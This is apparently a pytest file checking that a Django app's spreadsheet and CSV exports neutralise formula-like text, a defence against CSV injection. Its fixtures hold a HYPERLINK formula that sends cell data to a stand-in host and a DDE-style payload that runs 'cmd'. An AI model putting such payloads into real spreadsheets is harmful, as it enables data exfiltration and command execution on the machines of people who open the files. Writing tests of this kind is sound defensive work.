"""Formula-like text is neutralised in the spreadsheets placewise writes (OWASP, CSV injection):
a review pack's XLSX, the audit log's CSV and `placewise spc`'s CSV. Numbers stay numbers."""

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.urls import reverse

from placewise.indicators import series_file
from placewise.reviews.models import Action, AgendaItem, ReviewSession
from placewise.reviews.pack import workbook
from placewise.sharing import audit
from tests import factories

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Click")'


def test_the_review_pack_writes_what_people_typed_as_text(people):
    session = ReviewSession.objects.create(
        organisation=people["orgs"]["council"],
        team="North",
        held_on=date(2025, 3, 4),
        attendees=LINK,
        chair=people["alice"],
    )
    item = AgendaItem.objects.create(
        session=session,
        indicator="re_referrals",
        team="North",
        origin=AgendaItem.Origin.CHAIR,
        highlight="Re-referrals rose",
        interpretations="@SUM(1+1)*cmd|' /C calc'!A0",
        reasons="-2+3",
    )
    factories.session_action(
        item,
        description="+Audit the closures",
        owner="\tTeam manager",
        due_on=date(2025, 6, 1),
        indicator="re_referrals",
        team="North",
        direction=Action.Direction.DOWN,
        from_period=date(2025, 2, 1),
        created_by="alice",
    )
    book = openpyxl.load_workbook(io.BytesIO(workbook(session, {}, full=set())))
    # No cell anywhere is a formula.
    formulas = [
        (sheet.title, c.coordinate)
        for sheet in book.worksheets
        for line in sheet.iter_rows()
        for c in line
        if c.data_type == "f"
    ]
    assert formulas == []
    assert book["Session"]["B5"].value == "'" + LINK
    agenda = book["Agenda"]
    assert (agenda["E2"].value, agenda["F2"].value) == ("'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3")
    assert agenda["D2"].value == "Re-referrals rose"  # ordinary text untouched
    actions = book["Actions"]
    assert (actions["C2"].value, actions["D2"].value) == ("'+Audit the closures", "'\tTeam manager")


def test_the_audit_log_csv_neutralises_what_was_typed(client, people):
    audit.record(
        actor="alice",
        action="person.view",
        target=LINK,
        allowed=False,
        reason="no agreement",
        detail={"purpose": "@SUM(1)"},
    )
    client.force_login(people["alice"])
    response = client.get(reverse("sharing:audit"), {"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    (found,) = [r for r in rows if r["action"] == "person.view"]
    assert (found["target"], found["purpose"]) == ("'" + LINK, "'@SUM(1)")
    assert found["seq"].isdigit()


def test_the_spc_csv_keeps_negative_numbers_as_numbers_and_neutralises_labels(tmp_path):
    # Twelve months of a change measure that goes below zero; the first label is a formula.
    months = [date(2024, m, 1) for m in range(1, 13)]
    values = [-1.5, 2.0, -0.5, 1.0, 0.0, -2.0, 1.5, -1.0, 0.5, 2.5, -0.25, 1.0]
    labels = ["=1+1", *(m.strftime("%Y-%m") for m in months[1:])]
    series = series_file.Series(labels, months, values, None, None)
    text = series_file.as_csv(series, series_file.chart(series, []))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["period"] == "'=1+1"
    assert [r["value"] for r in rows[:3]] == ["-1.5", "2", "-0.5"]
